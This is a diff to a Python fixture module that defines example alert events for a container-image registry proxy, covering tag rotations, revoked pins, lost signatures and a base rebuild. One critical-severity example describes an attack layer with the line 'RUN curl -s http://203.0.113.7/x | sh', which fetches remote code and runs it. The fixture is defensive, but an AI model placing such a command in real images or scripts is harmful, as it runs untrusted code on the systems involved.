@@ -21,6 +21,7 @@ from proxy.policy.changes.record import details_of
 from proxy.sinks import words
 from proxy.sinks.alertmanager import AlertmanagerSink
 from proxy.sinks.cloudevents import envelope
+from storage.classifications import SETTLED
 from storage.digest import Digest
 from storage.records import ACTS, Event, EventType, Message, Severity, sink_subject
 
@@ -28,18 +29,26 @@ SOURCE = "https://tagstone.example"
 _AT = datetime(2026, 3, 14, 9, 26, 53, 589000, tzinfo=UTC)
 _IMAGE = "docker.io/library/nginx"
 _TAG = f"{_IMAGE}:1.27"
+_WHO = "key library (5e0ac5f3c1d2…)"
 _MARKED = re.compile(r"(<!-- (\w+) -->\n).*?(<!-- end -->)", re.DOTALL)
 
 
 _OLD, _NEW, _LAYER = (Digest.of(what) for what in (b"pinned", b"moved", b"layer"))
-_CHANGE = Change(
+#: What the examples of overwrites tell of: an attack, and a rebuild.
+CHANGE = Change(
     _OLD,
     _NEW,
     (Kind.LAYERS_ADDED, Kind.ENVIRONMENT),
     Severity.CRITICAL,
-    ("a layer of 1.2 MiB was added on top: RUN curl -s http://203.0.113.7/x | sh", "environment PATH has /tmp in front"),
+    ("1 layer added on top, 1.2 MiB: RUN curl -s http://203.0.113.7/x | sh", "environment: HTTP_PROXY"),
 )
-
+REBUILD = Change(
+    _OLD,
+    _NEW,
+    (Kind.BASE_REBUILT,),
+    Severity.INFO,
+    ("the base was rebuilt: lower layers differ, what was done above them is the same (3 of 7 layers are the same)",),
+)
 
 #: Where an event is graver, or less grave, than its type.
 _OTHERWISE = {
@@ -84,8 +93,8 @@ def entries() -> Mapping[EventType, Entry]:
                 _NEW,
                 moved,
                 _AT,
-                severity=_CHANGE.severity,
-                details={"pinned": pinned, "upstream": upstream, **details_of(_CHANGE)},
+                severity=CHANGE.severity,
+                details={"pinned": pinned, "upstream": upstream, **details_of(CHANGE), SETTLED: True},
             ),
         ),
         EventType.TAG_REVERTED: Entry(
@@ -117,6 +126,8 @@ def entries() -> Mapping[EventType, Entry]:
                 upstream=upstream,
                 due="2026-03-17T09:26:53.589000+00:00",
                 approvals_needed=0,
+                **details_of(REBUILD),
+                settled=True,
             ),
         ),
         EventType.TAG_ROTATED: Entry(
@@ -126,7 +137,7 @@ def entries() -> Mapping[EventType, Entry]:
                 EventType.TAG_ROTATED,
                 _TAG,
                 _NEW,
-                f'{_TAG} was rotated from {_OLD} to {_NEW} by rule "docker.io/library/**"; vouched for by the key library',
+                f'{_TAG} was rotated from {_OLD} to {_NEW} by rule "docker.io/library/**"; vouched for by {_WHO}',
                 pinned=pinned,
                 upstream=upstream,
             ),
@@ -135,7 +146,11 @@ def entries() -> Mapping[EventType, Entry]:
             "A pinned digest no longer passes its rule: a key's time is over, the rule was changed. It is not served any more.",
             "Mend the rule or the trust if that was not meant; else have the image signed anew, or replace it where it runs.",
             _event(
-                EventType.PIN_REVOKED, _TAG, _OLD, "a signature by the key library is required; its window ended on 2026-03-01"
+                EventType.PIN_REVOKED,
+                _TAG,
+                _OLD,
+                "a signature by the key library is required; its window ended on 2026-03-01",
+                pinned=pinned,
             ),
         ),
         EventType.PIN_STALE: Entry(
@@ -145,7 +160,7 @@ def entries() -> Mapping[EventType, Entry]:
                 EventType.PIN_STALE,
                 _TAG,
                 _NEW,
-                f"{_TAG} is pinned to {_OLD} still: {_NEW} has waited for 7 days; it needs 1 more approval (of 1)",
+                f"{_TAG} is pinned to {_OLD} still: {_NEW} waits since 2026-03-07 09:26 UTC; it needs 1 more approval (of 1)",
                 pinned=pinned,
                 upstream=upstream,
             ),
@@ -157,7 +172,7 @@ def entries() -> Mapping[EventType, Entry]:
                 EventType.PIN_APPROVED,
                 _TAG,
                 _NEW,
-                f"olga approved {_NEW} for {_TAG}: release 1.27.4",
+                f"{_TAG} is pinned to {_NEW} now, which olga approved (before: {_OLD})",
                 pinned=pinned,
                 upstream=upstream,
                 by="olga",
@@ -201,9 +216,11 @@ def entries() -> Mapping[EventType, Entry]:
                 EventType.SIGNATURE_LOST,
                 _TAG,
                 _OLD,
-                f"{_TAG}: the evidence, by the key library, by which {_OLD} was accepted is not to be had upstream any more; "
+                f"{_TAG}: the evidence, by {_WHO}, by which {_OLD} was accepted is not to be had upstream any more; "
                 "it passes by what was kept, and is served on",
                 pinned=pinned,
+                gone=["key library 5e0ac5f3c1d2b7a9"],
+                upstream_lacks=["a signature by the key library is required; found: no signature at all"],
             ),
         ),
         EventType.KEY_EXPIRING: Entry(
@@ -213,7 +230,7 @@ def entries() -> Mapping[EventType, Entry]:
                 EventType.KEY_EXPIRING,
                 "trust.keys.library",
                 None,
-                "trust.keys.library: the last valid key ends on 2026-04-01",
+                "trust.keys.library: the last key ends on 2026-04-01 23:59 UTC",
                 until="2026-04-01T23:59:59.999999+00:00",
             ),
         ),
@@ -245,7 +262,7 @@ def entries() -> Mapping[EventType, Entry]:
         EventType.BLOB_DAMAGED: Entry(
             "A stored file no longer hashes to its name. It was put into quarantine and is fetched anew.",
             "Check the disk, and who can write to the data directory.",
-            _event(EventType.BLOB_DAMAGED, "store", _LAYER, f"expected {_LAYER}, the bytes hash to {_NEW}"),
+            _event(EventType.BLOB_DAMAGED, str(_LAYER), _LAYER, f"expected {_LAYER}, the bytes hash to {_NEW}"),
         ),
         EventType.UPSTREAM_UNREACHABLE: Entry(
             "An upstream does not answer. Pinned tags are served on, nothing new is let in.",
